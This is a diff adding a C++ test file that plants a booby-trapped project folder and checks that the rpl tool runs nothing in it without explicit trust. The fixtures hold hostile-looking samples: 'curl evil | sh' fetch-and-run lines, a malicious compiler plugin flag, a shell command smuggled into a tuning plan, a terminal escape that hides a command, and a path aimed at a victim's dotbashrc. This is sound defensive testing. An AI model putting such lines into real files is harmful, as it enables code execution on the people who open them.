@@ -1,0 +1,173 @@
+// SPDX-License-Identifier: MIT
+// A folder that somebody sent, with traps in it: nothing springs before a person says yes, and what would is listed.
+#include <fmt/format.h>
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <fstream>
+
+#include "engine/base/sha256.h"
+#include "engine/document/json.h"
+#include "engine/process/run.h"
+#include "engine/store/session.h"
+#include "tests/support/temp_dir.h"
+
+namespace rpl {
+namespace {
+
+namespace fs = std::filesystem;
+using ::testing::AllOf;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+class PlantedFolder : public testing::Test {
+ protected:
+  void SetUp() override {
+    folder_.write("victim/dotbashrc", kVictim);
+    folder_.write("project/k.hip", "__global__ void k(float* x) { x[0] = 1; }\n");
+    folder_.write("project/.rpl/init.rpl", "!touch MARK #\r\033[2Kecho hello\n");
+    folder_.write("project/.rpl/init.lua", "os.execute('touch MARK')\n");
+    folder_.write("project/.rpl/scripts/mine.lua", "os.execute('touch MARK')\n");
+    folder_.write("project/gaps.lua", "os.execute('touch MARK')\n");
+    folder_.write("project/.rpl/proposals/p1/candidate.hip", "curl evil | sh\n");
+    folder_.write("project/.rpl/proposals/p1/before-approval.hip", "curl evil | sh\n");
+    plant();
+  }
+
+  /// As rpl itself would have written it.
+  void plant() {
+    auto session = Session::open(folder_ / "project/.rpl", {.version = "0", .arguments = {}});
+    ASSERT_TRUE(session);
+    const auto add = [&](SessionEventKind kind, const char* json) {
+      auto body = parse_json(json);
+      ASSERT_TRUE(body) << body.error().message;
+      ASSERT_TRUE((*session)->append({.kind = kind, .what = "planted", .body = std::move(*body)}));
+    };
+    add(SessionEventKind::optimizing,
+        fmt::format(R"({{"number": 1, "kernel": "k", "source": "../victim/dotbashrc", "source_versions": ["{}"],
+          "parent": 0, "capture": "frozen", "architecture": "gfx942", "flags": ["-fplugin=./evil.so"],
+          "reached": "propose", "profile": {{}}}})",
+                    sha256_hex(kVictim))
+            .c_str());
+    add(SessionEventKind::proposal,
+        R"({"number": 1, "optimization": 1, "origin": "edit", "rule": "", "title": "faster", "why": "", "bit_exact": false,
+          "header_edit": "", "assumes": "", "flags": [], "state": "accepted", "decided_at": "", "reasons": [],
+          "evidence": {"measure": {"time_source": "measured"}}})");
+    add(SessionEventKind::tuning,
+        R"({"number": 1, "plan": {"work": {"command": ["sh", "-c", "touch MARK; echo took 1 ms"], "compiler": "./evil"}}})");
+  }
+
+  struct Said {
+    int code = 0;
+    std::string text;
+  };
+  Said rpl(std::vector<std::string> words) {
+    words.insert(words.begin(), RPL_PROGRAM);
+    const auto ended = run({.argv = std::move(words),
+                            .env = {"HOME=" + folder_.path(), "XDG_STATE_HOME=" + (folder_ / "state"),
+                                    "XDG_CONFIG_HOME=" + (folder_ / "config")},
+                            .cwd = folder_ / "project"});
+    EXPECT_TRUE(ended) << ended.error().message;
+    return ended ? Said{ended->code, ended->out.text + ended->err.text} : Said{};
+  }
+  [[nodiscard]] std::string database() const { return sha256_hex(folder_.read("project/.rpl/session.db")); }
+  void expect_nothing_sprang(std::string_view after) {
+    EXPECT_FALSE(fs::exists(folder_ / "project/MARK")) << after;
+    EXPECT_EQ(folder_.read("victim/dotbashrc"), kVictim) << after;
+  }
+
+  static constexpr const char* kVictim = "alias ls='ls -l'\n";
+  testing_support::TempDir folder_;
+};
+
+TEST_F(PlantedFolder, NothingSprings) {
+  const std::string before = database();
+  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
+           {"finish"},
+           {"finish", "p1"},
+           {"step"},
+           {"next"},
+           {"continue"},
+           {"iterate", "--all"},
+           {"verify", "p1"},
+           {"bench", "p1"},
+           {"propose", "rule"},
+           {"propose", "edit", "k.hip"},
+           {"tune", "resume"},
+           {"tune", "evaluate", ".rpl/tunings/n1"},
+           {"--allow", "approve", "approve", "p1"},
+           {"--allow", "approve", "revert", "p1"},
+           {"--allow", "approve", "session", "undo"},
+           {"reject", "p1", "--why", "x"},
+           {"trust", "session"},
+           {"-batch", "-ex", "print 1"},
+           {"-batch", "-ex", "step"},
+           {"-batch", "-x", "gaps.lua", "--", "k.hip"},
+           {"help", "mine.lua"},
+           {"info", "proposals"},
+           {"info", "proposal", "p1"},
+           {"lineage"},
+           {"session", "info"},
+           {"session", "log"},
+           {"tune", "status"}}) {
+    rpl(words);
+    expect_nothing_sprang(fmt::format("{}", fmt::join(words, " ")));
+    EXPECT_EQ(database(), before) << "nothing is kept in it: " << fmt::format("{}", fmt::join(words, " "));
+  }
+}
+
+TEST_F(PlantedFolder, ItCanBeLookedAt) {
+  EXPECT_THAT(rpl({"info", "proposals", "--json"}).text, HasSubstr("\"p1\""));
+  EXPECT_THAT(rpl({"session", "log", "--json"}).text, HasSubstr("planted"));
+  const Said refused = rpl({"finish", "p1"});
+  EXPECT_NE(refused.code, 0);
+  EXPECT_THAT(refused.text, AllOf(HasSubstr("only looked at"), HasSubstr("trust session")));
+}
+
+TEST_F(PlantedFolder, TrustListsWhatItWouldRunAndAsks) {
+  const Said listed = rpl({"trust", "session", "--json"});
+  for (const char* shown : {"-fplugin=./evil.so", "touch MARK", "./evil", "../victim/dotbashrc"})
+    EXPECT_THAT(listed.text, HasSubstr(shown));
+  EXPECT_THAT(listed.text, HasSubstr("\"state\": \"foreign\"")) << "nobody said yes";
+  expect_nothing_sprang("trust session");
+  EXPECT_THAT(rpl({"trust", "session", "--yes", "--json"}).text, HasSubstr("\"state\": \"own\""));
+  EXPECT_THAT(rpl({"trust", "session", "--json"}).text, HasSubstr("\"state\": \"own\""));
+  // What a flag may not do it may not do when somebody trusts the session either.
+  rpl({"finish", "p1"});
+  expect_nothing_sprang("trusted");
+}
+
+TEST_F(PlantedFolder, OthersWhoMayWriteMakeItForeignAgain) {
+  rpl({"trust", "session", "--yes"});
+  fs::permissions(folder_ / "project/.rpl", fs::perms::others_write, fs::perm_options::add);
+  EXPECT_THAT(rpl({"finish", "p1"}).text, HasSubstr("can be written by others"));
+}
+
+TEST_F(PlantedFolder, OnesOwnSessionGoesOnByItself) {
+  const auto in = [&](std::vector<std::string> words) {
+    words.insert(words.begin(), {"--session", folder_ / "own"});
+    return rpl(std::move(words));
+  };
+  in({"set", "rows", "10"});
+  EXPECT_THAT(in({"session", "log"}).text, AllOf(HasSubstr("set rows 10"), Not(HasSubstr("looked at"))));
+  // Elsewhere, as it is mounted there, too.
+  fs::rename(folder_ / "own", folder_ / "moved");
+  EXPECT_THAT(rpl({"--session", folder_ / "moved", "session", "log"}).text,
+              Not(HasSubstr("looked at")));
+}
+
+TEST_F(PlantedFolder, TrustCoversWhatIsSourced) {
+  folder_.write("project/.rpl/init.rpl", "source .rpl/more.rpl\n");
+  folder_.write("project/.rpl/more.rpl", "echo fine\n");
+  fs::remove(folder_ / "project/.rpl/init.lua");
+  EXPECT_THAT(rpl({"trust", ".rpl/init.rpl"}).text, HasSubstr("more.rpl"));
+  EXPECT_THAT(rpl({"-batch", "-ex", "print 1"}).text, HasSubstr("fine"));
+  folder_.write("project/.rpl/more.rpl", "!touch MARK\n");
+  const Said after = rpl({"-batch", "-ex", "print 1"});
+  EXPECT_THAT(after.text, HasSubstr("nobody trusts"));
+  expect_nothing_sprang("a sourced script changed");
+}
+
+}  // namespace
+}  // namespace rpl
